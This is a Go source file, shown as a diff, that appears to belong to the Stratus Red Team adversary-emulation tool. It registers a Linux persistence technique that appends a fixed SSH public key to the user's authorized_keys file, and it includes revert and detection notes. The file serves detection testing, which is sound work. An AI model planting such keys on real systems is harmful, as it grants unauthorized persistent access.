@@ -0,0 +1,108 @@
+package linux
+
+import (
+	_ "embed"
+	"errors"
+	"github.com/datadog/stratus-red-team/pkg/stratus"
+	"github.com/datadog/stratus-red-team/pkg/stratus/mitreattack"
+	"os"
+	"path/filepath"
+	"strings"
+)
+
+//go:embed sigma.yml
+var sigma []byte
+
+// Public key added to the authorized keys. Its private key was thrown away when generating it
+const publicKey = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAu2BWVb1NlBXKi5qRwNCOP3mtxO7HIMea0wAlQ6PcdF stratus-red-team"
+
+const authorizedKeysPath = "~/.ssh/authorized_keys"
+
+func init() {
+	stratus.GetRegistry().RegisterAttackTechnique(&stratus.AttackTechnique{
+		ID:           "linux.persistence.ssh-authorized-keys",
+		FriendlyName: "Add an SSH Authorized Key",
+		Description: `
+Establishes persistence by adding a public key to the SSH authorized keys of the current user, allowing an attacker
+to log in with the corresponding private key.
+
+Warm-up: None
+
+Detonation:
+
+- Add a public key to <code>` + authorizedKeysPath + `</code>, creating the file if it does not exist.
+
+Reverting the detonation restores the original content of the file.
+`,
+		Detection: `
+Using file integrity monitoring or auditd rules on <code>authorized_keys</code> files.
+`,
+		SigmaRules:         sigma,
+		Platform:           stratus.Linux,
+		IsIdempotent:       true,
+		MitreAttackTactics: []mitreattack.Tactic{mitreattack.Persistence},
+		Detonate:           detonate,
+		Revert:             revert,
+		IsDetonated:        isDetonated,
+	})
+}
+
+func detonate(execution *stratus.ExecutionContext) error {
+	path, err := execution.Linux.ExpandPath(authorizedKeysPath)
+	if err != nil {
+		return err
+	}
+	if err := execution.Linux.BackupFile(path); err != nil {
+		return err
+	}
+
+	authorizedKeys, err := os.ReadFile(path)
+	if err != nil && !errors.Is(err, os.ErrNotExist) {
+		return errors.New("unable to read authorized keys: " + err.Error())
+	}
+	if strings.Contains(string(authorizedKeys), publicKey) {
+		execution.Logger.Println("The public key is already authorized in " + path)
+		return nil
+	}
+
+	execution.Logger.Println("Adding public key to " + path)
+	if err := os.MkdirAll(filepath.Dir(path), 0700); err != nil {
+		return errors.New("unable to create SSH directory: " + err.Error())
+	}
+	file, err := os.OpenFile(path, os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0600)
+	if err != nil {
+		return errors.New("unable to open authorized keys: " + err.Error())
+	}
+	defer file.Close()
+	line := publicKey + "\n"
+	if len(authorizedKeys) > 0 && !strings.HasSuffix(string(authorizedKeys), "\n") {
+		line = "\n" + line
+	}
+	if _, err := file.WriteString(line); err != nil {
+		return errors.New("unable to write authorized keys: " + err.Error())
+	}
+	return nil
+}
+
+func revert(execution *stratus.ExecutionContext) error {
+	path, err := execution.Linux.ExpandPath(authorizedKeysPath)
+	if err != nil {
+		return err
+	}
+	execution.Logger.Println("Restoring the original content of " + path)
+	return execution.Linux.RestoreFile(path)
+}
+
+func isDetonated(execution *stratus.ExecutionContext) (bool, error) {
+	path, err := execution.Linux.ExpandPath(authorizedKeysPath)
+	if err != nil {
+		return false, err
+	}
+	authorizedKeys, err := os.ReadFile(path)
+	if errors.Is(err, os.ErrNotExist) {
+		return false, nil
+	} else if err != nil {
+		return false, errors.New("unable to read authorized keys: " + err.Error())
+	}
+	return strings.Contains(string(authorizedKeys), publicKey), nil
+}